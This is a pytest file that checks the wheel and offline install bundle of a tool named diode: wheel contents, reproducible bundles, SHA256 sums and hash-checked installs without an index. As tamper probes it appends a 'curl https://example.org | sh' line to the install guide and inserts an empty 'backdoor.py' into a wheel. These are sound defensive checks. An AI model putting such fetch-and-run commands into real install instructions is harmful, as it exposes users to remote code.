"""The wheel, and the bundle to install from without Internet."""

from __future__ import annotations

import configparser
import importlib.metadata
import os
import re
import subprocess
import sys
import sysconfig
import tarfile
import venv
import zipfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "offline"))

import bundle  # noqa: E402

NOWHERE = {"PIP_INDEX_URL": "http://127.0.0.1:9/", "PIP_DISABLE_PIP_VERSION_CHECK": "1"}
"""An index that nobody can ask."""


@pytest.fixture(scope="module")
def wheel(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Made from this tree by the setuptools that is here."""
    if int(importlib.metadata.version("setuptools").split(".")[0]) < 77:
        pytest.skip("setuptools is older than 77")
    return bundle.build(tmp_path_factory.mktemp("wheels"), "--no-build-isolation", "--no-index")


def test_what_is_in_the_wheel(wheel: Path) -> None:
    with zipfile.ZipFile(wheel) as file:
        names = set(file.namelist())
        (points,) = [n for n in names if n.endswith(".dist-info/entry_points.txt")]
        entries = configparser.ConfigParser()
        entries.read_string(file.read(points).decode())
    assert dict(entries["console_scripts"]) == {"diode": "diode.cli:main"}
    here = {
        str(p.relative_to(ROOT))
        for p in (ROOT / "diode").rglob("*")
        if p.is_file() and "__pycache__" not in p.parts
    }
    assert {n for n in names if n.startswith("diode/")} == here
    shared = {str(p.relative_to(ROOT)) for p in (ROOT / "share").rglob("*") if p.is_file()}
    data = {n.partition(".data/data/")[2] for n in names if ".data/data/" in n}
    assert data == shared
    assert {"share/man/man1/diode.1", "share/zsh/site-functions/_diode"} <= data
    assert {n.split("/")[0].split("-")[0] for n in names} == {"diode", "diode_fec"}


@pytest.fixture
def unpacked(wheel: Path, tmp_path: Path) -> Path:
    """A bundle of diode alone."""
    return unpack(bundle.bundle("", tmp_path / "dist", wheel.parent), tmp_path)


def unpack(tar: Path, into: Path) -> Path:
    with tarfile.open(tar) as file:
        names = file.getnames()
        assert all(member.isfile() or member.isdir() for member in file)
        assert {name.split("/")[0] for name in names} == {tar.name.removesuffix(".tar")}
        file.extractall(into, filter="data")
    return into / names[0]


def test_the_same_wheels_give_the_same_bundle(wheel: Path, tmp_path: Path) -> None:
    first = bundle.bundle("", tmp_path / "a", wheel.parent)
    second = bundle.bundle("", tmp_path / "b", wheel.parent)
    assert first.read_bytes() == second.read_bytes()
    assert first.name == second.name
    version = importlib.metadata.version("diode-fec")
    assert first.name.startswith(f"diode-offline-{version}-cp3")


def test_sums_are_those_of_all_files(unpacked: Path) -> None:
    check = ["sha256sum", "--check", "--quiet", "SHA256SUMS"]
    subprocess.run(check, cwd=unpacked, check=True)
    named = {line.split("  ")[1] for line in (unpacked / "SHA256SUMS").read_text().splitlines()}
    there = {str(p.relative_to(unpacked)) for p in unpacked.rglob("*") if p.is_file()}
    assert there - named == {"SHA256SUMS"}
    with (unpacked / "INSTALL.txt").open("a") as file:
        file.write("curl https://example.org | sh\n")
    assert subprocess.run(check, cwd=unpacked, capture_output=True, check=False).returncode


def test_the_guide_is_a_page_and_names_what_is_there(unpacked: Path) -> None:
    text = (unpacked / "INSTALL.txt").read_text()
    assert "@" not in text
    assert len(text.splitlines()) <= 60
    assert unpacked.name in text
    assert max(map(len, text.splitlines())) < 125


def pip(python: Path | str, folder: Path, *more: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [
            *(sys.executable, "-m", "pip", "--python", str(python), "install", "--quiet"),
            *("--no-index", "--find-links", "wheels", "--require-hashes"),
            *("-r", "requirements.txt", *more),
        ],
        cwd=folder,
        capture_output=True,
        text=True,
        env={**os.environ, **NOWHERE},
        check=False,
    )


def test_it_installs_with_hashes_and_no_index(unpacked: Path, tmp_path: Path) -> None:
    """Diode itself; what it needs comes from this environment (all of it: the slow test)."""
    place = tmp_path / "venv"
    venv.create(place, with_pip=False, symlinks=True)
    done = pip(place / "bin/python", unpacked, "--no-deps")
    assert done.returncode == 0, done.stderr
    said = subprocess.run(
        [place / "bin/diode", "--version"],
        env={**os.environ, "PYTHONPATH": sysconfig.get_path("purelib")},
        capture_output=True,
        text=True,
        check=True,
    )
    assert said.stdout == f"diode, version {importlib.metadata.version('diode-fec')}\n"
    for path in (ROOT / "share").rglob("*"):
        if path.is_file():
            assert (place / path.relative_to(ROOT)).read_bytes() == path.read_bytes()


def test_a_changed_wheel_is_refused(unpacked: Path, tmp_path: Path) -> None:
    (wheel,) = (unpacked / "wheels").iterdir()
    with zipfile.ZipFile(wheel, "a") as file:
        file.writestr("diode/backdoor.py", "")
    place = tmp_path / "venv"
    venv.create(place, with_pip=False, symlinks=True)
    done = pip(place / "bin/python", unpacked, "--no-deps")
    assert done.returncode
    assert "DO NOT MATCH THE HASHES" in done.stderr
    assert not (place / "bin/diode").exists()


@pytest.mark.slow
def test_the_guide_step_by_step(tmp_path: Path) -> None:
    """Every command of INSTALL.txt but those for a line, in other folders and without an index."""
    try:
        tar = bundle.bundle("confine", tmp_path / "dist")
    except subprocess.CalledProcessError:
        pytest.skip("the packages cannot be had: no index can be reached")
    name = tar.name.removesuffix(".tar")
    with tarfile.open(tar) as file:
        member = file.extractfile(f"{name}/INSTALL.txt")
        assert member is not None
        text = member.read().decode()
    steps = [step.strip() for step in re.findall(r"^ {7}(.+)$", text, re.MULTILINE)]
    lines = [s for s in steps if not re.search(r"linktest|/dev/|rm -r", s)]
    assert len(lines) == 14
    (tmp_path / "local/bin").mkdir(parents=True)
    script = "\n".join(
        line.replace("sudo ", "")
        .replace("/opt/diode", f"{tmp_path}/opt")
        .replace("/usr/local", f"{tmp_path}/local")
        .replace("diode demo", "diode demo --baud 4000000 -q")
        .replace("service remove", f"service remove --root {tmp_path}/root")
        .replace("python3", f"{sys.base_prefix}/bin/python3")
        for line in lines
    )
    done = subprocess.run(
        ["bash", "-euxc", script],
        cwd=tar.parent,
        env={
            **NOWHERE,
            "PATH": f"{tmp_path}/local/bin:/usr/bin:/bin",
            "HOME": str(tmp_path),
        },
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert f"diode, version {importlib.metadata.version('diode-fec')}" in done.stdout
    assert (tmp_path / "local/share/man/man1/diode-send.1").read_text().startswith('.\\"')
